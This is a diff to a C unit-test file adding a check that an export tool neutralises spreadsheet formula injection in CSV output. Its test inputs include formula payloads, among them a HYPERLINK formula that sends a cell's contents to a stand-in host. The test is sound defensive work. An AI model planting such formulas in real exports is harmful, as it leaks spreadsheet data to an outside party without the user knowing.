@@ -10,6 +10,7 @@
 #include <cmocka.h>
 
 #include <limits.h>
+#include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -481,6 +482,107 @@ test_cli(void **state)
 	free(l);
 }
 
+/* Whether a cell of the CSV TEXT (LEN bytes) begins, once unquoted,
+ * with one of the characters a spreadsheet takes for a formula. */
+static bool
+csv_has_formula_cell(const char *text, size_t len)
+{
+	bool start = true, quoted = false;
+
+	for (size_t i = 0; i < len; i++) {
+		char ch = text[i];
+
+		if (start) {
+			start = false;
+			if (ch == '"') {
+				quoted = true;
+				if (i + 1 < len && text[i + 1] != '\0' &&
+				    strchr("=+-@\t\r", text[i + 1]) != NULL)
+					return true;
+				continue;
+			}
+			if (ch != '\0' && strchr("=+-@\t", ch) != NULL)
+				return true;
+		}
+		if (quoted) {
+			if (ch == '"' && i + 1 < len && text[i + 1] == '"')
+				i++;
+			else if (ch == '"')
+				quoted = false;
+			continue;
+		}
+		if (ch == ',' || ch == '\n')
+			start = true;
+	}
+	return false;
+}
+
+/* Cells a spreadsheet would run as formulas (=, +, -, @, a tab or CR
+ * first) are written with a leading quote, and so is a cell that begins
+ * with a quote itself; the offline check takes exactly that quote off
+ * again, so the hashes still verify — also through the CLI. */
+static void
+test_csv_formula_cells(void **state)
+{
+	static const char *const actors[] = {
+		"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3",
+		"@SUM(1,2)", "'quoted", "''twice", "'=both", "\tcmd", "\rcr", "plain",
+	};
+	struct plan_errors errs = { 0 };
+	struct store *s = NULL;
+	struct export_check c;
+	json_t *doc = NULL;
+	char err[512], path[PATH_MAX + 32], out[2048], *yaml, *csv = NULL;
+	size_t len = 0, n = sizeof(actors) / sizeof(actors[0]);
+	int64_t id, t = 1764600000123;
+	FILE *w;
+
+	(void)state;
+	snprintf(path, sizeof(path), "%s/formula.db", dir);
+	/* A plan starting with YAML's document marker begins with '-'. */
+	yaml = malloc(strlen(plan_a) + 5);
+	assert_non_null(yaml);
+	snprintf(yaml, strlen(plan_a) + 5, "---\n%s", plan_a);
+	memcpy(strstr(yaml, "exporta"), "exportf", 7);
+	if (store_open(path, &s, err, sizeof(err)) != 0 ||
+	    store_plan_submit(s, "f.yaml", yaml, strlen(yaml), "-alice", &id, &errs, err,
+	    sizeof(err)) != 0)
+		fail_msg("formula setup: %s", errs.n ? errs.v[0].message : err);
+	for (size_t i = 0; i < n; i++)
+		event(s, id, t++, actors[i], i % 2 ? "+kind" : "=kind", "{\"comment\":\"x\"}");
+	if (export_build(s, id, &doc, err, sizeof(err)) != 0 ||
+	    export_csv(doc, &csv, &len, err, sizeof(err)) != 0)
+		fail_msg("export: %s", err);
+	assert_false(csv_has_formula_cell(csv, len));
+	assert_non_null(strstr(csv, ",'=kind,"));
+	assert_non_null(strstr(csv, ",'''twice,"));
+	assert_non_null(strstr(csv, ",plain,"));
+	assert_int_equal(verify(csv, len, &c), 0);
+	assert_string_equal(c.format, "csv");
+	assert_int_equal(c.plan_events, 1 + (int64_t)n);
+	/* The JSON export carries the values as they are. */
+	free(csv);
+	csv = json_dumps(doc, JSON_COMPACT | JSON_PRESERVE_ORDER);
+	assert_non_null(strstr(csv, "\"actor\":\"''twice\""));
+	assert_int_equal(verify(csv, strlen(csv), &c), 0);
+	free(csv);
+	csv = NULL;
+	if (export_csv(doc, &csv, &len, err, sizeof(err)) != 0)
+		fail_msg("export: %s", err);
+	if (getenv("CUTOVER_BINARY") != NULL) {
+		snprintf(path, sizeof(path), "%s/formula.csv", dir);
+		w = fopen(path, "wb");
+		assert_non_null(w);
+		fwrite(csv, 1, len, w);
+		fclose(w);
+		assert_int_equal(cli_verify(path, out, sizeof(out)), 0);
+	}
+	free(csv);
+	free(yaml);
+	json_decref(doc);
+	store_close(s);
+}
+
 int
 main(void)
 {
@@ -491,6 +593,7 @@ main(void)
 		cmocka_unit_test(test_json_removed_reordered_cut),
 		cmocka_unit_test(test_csv_tampered),
 		cmocka_unit_test(test_cli),
+		cmocka_unit_test(test_csv_formula_cells),
 	};
 
 	return cmocka_run_group_tests(tests, setup, teardown);
